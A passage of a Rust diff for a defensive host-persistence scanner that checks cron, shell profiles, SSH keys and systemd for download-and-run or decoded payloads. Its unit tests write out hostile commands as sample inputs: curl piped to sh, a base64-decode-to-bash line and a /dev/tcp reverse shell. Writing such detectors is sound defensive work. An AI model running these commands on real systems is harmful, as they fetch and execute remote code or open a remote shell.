+            p.push(b'/');
+            p.extend_from_slice(f.as_bytes());
+            files.push(PathBuf::from(std::ffi::OsStr::from_bytes(&p)));
+        }
+    }
+    for f in files {
+        let Some(buf) = read_config(root, &f, out) else {
+            continue;
+        };
+        for h in scan_script(&buf) {
+            if !(h.what.contains(&Suspicion::DownloadExec) || h.what.contains(&Suspicion::Base64)) {
+                continue;
+            }
+            out.findings.push(
+                Finding::new("persistence.profile-download-exec", Severity::High, "shell start-up file fetches/decodes and runs code", pb(&f))
+                    .with_evidence(Evidence::line(pb(&f), h.line).with_excerpt(&h.command))
+                    .with_detail("Shell profiles run at every login; a download piped to a shell (or a decoded payload) there re-infects the host whenever someone logs in.")
+                    .with_remediation("Preserve the file, remove the line, and find what it fetched.")
+                    .with_attack("T1546.004")
+                    .with_reference("MITRE ATT&CK T1546.004 Unix Shell Configuration Modification"),
+            );
+        }
+    }
+}
+
+/// Runs every persistence check.
+pub fn audit(root: &HostRoot, control: &Control) -> Outcome {
+    let mut out = Outcome::new();
+    let (accounts, errs) = Accounts::load(root);
+    out.errors.extend(errs);
+    audit_preload(root, &mut out);
+    if control.is_cancelled() {
+        return out;
+    }
+    audit_cron(root, &mut out);
+    if control.is_cancelled() {
+        return out;
+    }
+    audit_authorized_keys(root, &accounts, &mut out);
+    if control.is_cancelled() {
+        return out;
+    }
+    audit_systemd(root, &accounts, &mut out);
+    if control.is_cancelled() {
+        return out;
+    }
+    audit_rc_local(root, &mut out);
+    audit_profiles(root, &accounts, &mut out);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn classifies() {
+        assert_eq!(
+            classify_command(b"curl -fsSL http://x/y.sh | sh"),
+            vec![Suspicion::DownloadExec]
+        );
+        assert!(classify_command(b"echo aGk= | base64 -d | bash").contains(&Suspicion::Base64));
+        assert_eq!(
+            classify_command(b"/tmp/.x/kworker >/dev/null 2>&1"),
+            vec![Suspicion::TempPath]
+        );
+        assert_eq!(
+            classify_command(b"cd / && run-parts --report /etc/cron.daily"),
+            vec![]
+        );
+        assert_eq!(
+            classify_command(b"find /tmp -type f -mtime +7 -delete"),
+            vec![]
+        );
+        assert!(classify_command(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
+            .contains(&Suspicion::DownloadExec));
+    }
+
+    #[test]
+    fn crontab_fields() {
+        let (h, bad) = scan_crontab(b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://e/x | sh\n@reboot root /dev/shm/x\n* * *\n", true);
+        assert_eq!(h.len(), 2);
+        assert_eq!(h[0].line, 2);
+        assert_eq!(bad, vec![4]);
+    }
+
+    #[test]
+    fn keys_never_keep_material() {
+        let line = b"command=\"/bin/echo hi, there\",from=\"10.0.0.0/8\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host\n";
+        let k = parse_authorized_keys(line).remove(0).unwrap();
+        assert_eq!(k.option("command"), Some(Some(&b"/bin/echo hi, there"[..])));
+        assert!(k.option("from").is_some());
+        assert!(!k.describe().contains("AAAAC3"));
+        assert!(k.fingerprint.as_deref().unwrap().starts_with("SHA256:"));
+    }
+}
